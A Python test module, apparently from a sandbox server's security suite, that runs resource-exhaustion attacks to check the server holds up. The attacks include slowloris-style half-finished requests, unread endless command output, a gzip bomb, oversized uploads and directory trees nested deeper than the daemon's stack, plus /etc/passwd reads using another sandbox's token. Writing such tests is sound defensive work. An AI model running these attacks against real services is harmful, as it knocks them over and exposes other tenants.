"""Attacks that make the server carry more than it can: half requests, slow readers, packed bombs."""

import struct
import time
import zlib
from contextlib import ExitStack

from tests.attack.client.attacks import attack
from tests.attack.client.victim import HOME, Answer, Victim
from tests.attack.probe.attempts import Refused

_MIB = 1024 * 1024
_CONNECTIONS = 100
_SETTLE_SECONDS = 1.0
_DEPTH = 1500
"""Folders in folders: more than Python calls in calls."""


def _others_are_served(victim: Victim) -> str:
    if not victim.answers():
        return "the server answers nobody any more"
    other = {"E2b-Sandbox-Id": victim.other_id, "X-Access-Token": victim.other_token}
    if victim.ask("GET", "/files?path=/etc/passwd", other).status != 200:
        return "another sandbox can not be reached any more"
    raise Refused("others are served")


@attack("others are served")
def half_requests(victim: Victim) -> str:
    """Begin many requests and never end their headers."""
    with ExitStack() as stack:
        for _ in range(_CONNECTIONS):
            speaker = stack.enter_context(victim.connected())
            speaker.sendall(b"GET /files?path=/etc/passwd HTTP/1.1\r\nHost: victim\r\nX-")
        return _others_are_served(victim)


@attack("others are served")
def half_bodies(victim: Victim) -> str:
    """Begin many uploads and never end them."""
    with ExitStack() as stack:
        for index in range(_CONNECTIONS):
            speaker = stack.enter_context(victim.connected())
            speaker.sendall(_upload(victim, f"half-{index}") + b"x" * 10)
        return _others_are_served(victim)


@attack("others are served")
def half_forms(victim: Victim) -> str:
    """Begin many forms and stop before the first file's name."""
    with ExitStack() as stack:
        for index in range(_CONNECTIONS):
            speaker = stack.enter_context(victim.connected())
            head = _upload(victim, f"form-{index}", "multipart/form-data; boundary=b")
            speaker.sendall(head + b"--b\r\nContent-Disposition: form-data; na")
        return _others_are_served(victim)


def _upload(victim: Victim, name: str, kind: str = "application/octet-stream") -> bytes:
    headers = {**victim.headers, "Content-Type": kind, "Content-Length": str(10**9), "Host": "victim"}
    lines = "".join(f"{key}: {value}\r\n" for key, value in headers.items())
    return f"POST /files?path={HOME}/{name} HTTP/1.1\r\n{lines}\r\n".encode()


@attack("the server kept its size")
def slow_reader(victim: Victim) -> str:
    """Let a command print without end, and do not read."""
    before = victim.memory()
    with ExitStack() as stack:
        for _ in range(4):
            speaker = stack.enter_context(victim.connected())
            speaker.sendall(_start(victim, "cat /dev/zero"))
        time.sleep(_SETTLE_SECONDS)
        return _grown(victim, before)


@attack("the server kept its size")
def output_without_end(victim: Victim) -> str:
    """Let a command print without end, and read all of it."""
    before, end = victim.memory(), time.monotonic() + _SETTLE_SECONDS
    for _ in range(4):
        with victim.connected() as speaker:
            speaker.sendall(_start(victim, "cat /dev/zero"))
            while time.monotonic() < end and speaker.recv(_MIB):
                pass
    return _grown(victim, before)


@attack("the server kept its size")
def slow_reader_of_a_file(victim: Victim) -> str:
    """Download a file that takes no room on the disk but is long, and do not read."""
    victim.run("truncate -s 4G long")
    before = victim.memory()
    with ExitStack() as stack:
        for _ in range(4):
            speaker = stack.enter_context(victim.connected())
            lines = "".join(f"{name}: {value}\r\n" for name, value in victim.headers.items())
            request = f"GET /files?path={HOME}/long HTTP/1.1\r\nHost: victim\r\n{lines}\r\n"
            speaker.sendall(request.encode())
        time.sleep(_SETTLE_SECONDS)
        return _grown(victim, before)


def _grown(victim: Victim, before: int) -> str:
    grown = (victim.memory() - before) // _MIB
    if grown > 32:
        return f"the server grew by {grown} MiB"
    raise Refused("the server kept its size", f"{grown} MiB more")


def _start(victim: Victim, command: str) -> bytes:
    message = f'{{"process": {{"cmd": "/bin/sh", "args": ["-c", "{command}"]}}}}'.encode()
    body = struct.pack(">BI", 0, len(message)) + message
    headers = {
        **victim.headers,
        "Host": "victim",
        "Content-Type": "application/connect+json",
        "Connect-Protocol-Version": "1",
        "Connect-Timeout-Ms": "5000",
        "Content-Length": str(len(body)),
    }
    lines = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
    return f"POST /process.Process/Start HTTP/1.1\r\n{lines}\r\n".encode() + body


@attack("507", "500", "429", "413")
def gzip_bomb(victim: Victim) -> str:
    """Upload a little that unpacks to more than the sandbox's disk."""
    before = victim.memory()
    bomb = _zeros(victim.disk_mb + 64)
    answer = victim.write(f"{HOME}/bomb", bomb, {"Content-Encoding": "gzip"})
    return _full_disk(victim, before, answer, "bomb")


@attack("507", "500", "429", "413", "closed")
def upload_larger_than_the_disk(victim: Victim) -> str:
    """Upload more than the sandbox's disk."""
    before = victim.memory()
    answer = victim.write(f"{HOME}/large", bytes((victim.disk_mb + 16) * _MIB))
    return _full_disk(victim, before, answer, "large")


def _zeros(size_mb: int) -> bytes:
    """A gzip stream of so many megabytes of nothing."""
    packer = zlib.compressobj(level=1, wbits=31)
    return b"".join(packer.compress(bytes(_MIB)) for _ in range(size_mb)) + packer.flush()


def _full_disk(victim: Victim, before: int, answer: Answer, name: str) -> str:
    victim.run(f"rm -f {name}")
    grown = (victim.memory() - before) // _MIB
    if grown > max(32, victim.disk_mb // 4):
        return f"the server grew by {grown} MiB"
    if answer.status >= 400:
        raise Refused(str(answer.status), answer.body[:200].decode(errors="replace"))
    return answer.judge()


@attack("400", "the whole list", "429")
def list_without_end(victim: Victim) -> str:
    """List a tree deeper than a daemon's stack, to any depth."""
    victim.run(_nest("deep"))
    answer = victim.call("filesystem.Filesystem/ListDir", {"path": f"{HOME}/deep", "depth": 2**31 - 1})
    if answer.status == 200 and answer.body.count(b"FILE_TYPE_DIRECTORY") == _DEPTH:
        raise Refused("the whole list")
    return answer.judge()


@attack("removed", "400")
def remove_without_end(victim: Victim) -> str:
    """Have a tree removed that is deeper than a daemon's stack."""
    victim.run(_nest("low"))
    answer = victim.call("filesystem.Filesystem/Remove", {"path": f"{HOME}/low"})
    if answer.status == 200 and not victim.run("ls -d low || true").strip():
        raise Refused("removed")
    return answer.judge()


def _nest(name: str) -> str:
    steps = f"[(os.mkdir('d'), os.chdir('d')) for _ in range({_DEPTH})]"
    return f"python3 -c \"import os; os.mkdir('{name}'); os.chdir('{name}'); {steps}\""
